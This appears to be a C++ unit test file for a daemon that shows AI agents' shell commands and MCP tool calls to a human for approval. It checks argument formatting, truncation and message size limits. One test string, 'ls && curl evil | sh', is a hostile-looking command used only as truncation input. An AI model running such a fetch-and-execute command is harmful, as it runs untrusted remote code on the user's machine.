#include <gtest/gtest.h>

#include "daemon/action_record.hpp"
#include "daemon/question_text.hpp"
#include "protocol/json_lines_client.hpp"
#include "protocol/line_codec.hpp"
#include "protocol/protocol_json.hpp"
#include "support/case_name.hpp"

namespace vardex::testing {
namespace {

JSONValue arguments(std::string_view json) {
    return json_form::fromJson(nlohmann::json::parse(json), json_form::Tag<JSONValue>{});
}

struct ArgumentsCase {
    const char* name;
    std::string json;
    std::size_t cap;
    std::string shown;
};

class McpArguments : public ::testing::TestWithParam<ArgumentsCase> {};

TEST_P(McpArguments, ShowsThemIndentedAndSaysWhatIsCut) {
    const auto& c = GetParam();
    EXPECT_EQ(engine::mcpArgumentsText(arguments(c.json), c.cap), c.shown);
}

INSTANTIATE_TEST_SUITE_P(Arguments, McpArguments, ::testing::Values(
        ArgumentsCase{"payment", R"({"to":"acct-991","amount":5000,"memo":"<b>x</b>"})", 4096,
                      "{\n  \"amount\": 5000,\n  \"memo\": \"<b>x</b>\",\n  \"to\": \"acct-991\"\n}"},
        ArgumentsCase{"cutWithMarker", R"({"q":"abcdefghij"})", 12,
                      "{\n  \"q\": \"ab\n\u2026 (11 more bytes of arguments not shown)"},
        ArgumentsCase{"cutNeverSplitsACharacter", R"({"q":"ééé"})", 11,
                      "{\n  \"q\": \"\n\u2026 (9 more bytes of arguments not shown)"}), caseName);

// The question about an MCP call carries the arguments; the log keeps its one-line summary.
TEST(McpQuestion, CarriesTheToolsArguments) {
    Action action;
    action.context = {AgentKind::claude, "s1", "/home/ana/shop", false};
    action.kind = McpToolCallAction{"payments", "send_money", arguments(R"({"amount":5000,"to":"acct-991"})")};
    const Decision decision{Outcome::ask, "mcp.payments", {"mcp.payments"}, Severity::high, {}, {}, {}};

    EXPECT_EQ(engine::approvalRequest("q-1", action, decision).actionSummary,
              "mcp payments.send_money\n{\n  \"amount\": 5000,\n  \"to\": \"acct-991\"\n}");
    EXPECT_EQ(engine::decisionEvent(action, decision).actionSummary, "mcp payments.send_money");
}

struct ShownCase {
    const char* name;
    std::string text;
    std::size_t cap;
    std::string shown;
};

class ShownText : public ::testing::TestWithParam<ShownCase> {};

TEST_P(ShownText, KeepsBothEndsOfALongText) {
    EXPECT_EQ(engine::shownText(GetParam().text, GetParam().cap), GetParam().shown);
}

INSTANTIATE_TEST_SUITE_P(Texts, ShownText, ::testing::Values(
        ShownCase{"fits", "ls -la", 6, "ls -la"},
        ShownCase{"cut", "ls && curl evil | sh", 8, "ls && \n\u2026 (12 bytes not shown) \u2026\nsh"},
        // Neither end is cut inside a character.
        ShownCase{"characters_kept_whole", "a\u00e9\u00e9\u00e9\u00e9\u00e9a", 8,
                  "a\u00e9\u00e9\n\u2026 (6 bytes not shown) \u2026\na"}), caseName);

ShellAction shell(const std::string& raw) {
    ShellAction action;
    action.raw = raw;
    return action;
}

struct LongFieldCase {
    const char* name;
    void (*fill)(Action&, const std::string&);
};

class ALongField : public ::testing::TestWithParam<LongFieldCase> {};

// Whatever field an agent fills, even with bytes that each take six to write in JSON, what the
// daemon sends fits in a line every client reads.
TEST_P(ALongField, LeavesQuestionAndDecisionShortEnoughForAClient) {
    Action action;
    action.context = {AgentKind::claude, "s1", "/home/ana", false};
    GetParam().fill(action, std::string(JsonLinesClient::maxLineBytes, '\x01'));
    const Decision decision{Outcome::ask, "r1", {"r1"}, Severity::high, "reason", "reason", {}};

    const auto question = encodeLine(IpcMessage::approvalRequest(engine::approvalRequest("q-1", action, decision)));
    const auto event = encodeLine(IpcMessage::event(engine::decisionEvent(action, decision)));
    ASSERT_TRUE(question && event);
    EXPECT_LT(question->size(), JsonLinesClient::maxLineBytes / 4);
    EXPECT_LT(event->size(), JsonLinesClient::maxLineBytes / 4);
}

INSTANTIATE_TEST_SUITE_P(Fields, ALongField, ::testing::Values(
        LongFieldCase{"command", [](Action& a, const std::string& text) { a.kind = shell(text); }},
        LongFieldCase{"folder", [](Action& a, const std::string& text) { a.kind = shell("ls"); a.context.cwd = text; }},
        LongFieldCase{"session", [](Action& a, const std::string& text) { a.kind = shell("ls"); a.context.sessionId = text; }},
        LongFieldCase{"mcp_tool", [](Action& a, const std::string& text) {
            a.kind = McpToolCallAction{"srv", text, arguments(R"({"q":1})")};
        }}), caseName);

}  // namespace
}  // namespace vardex::testing
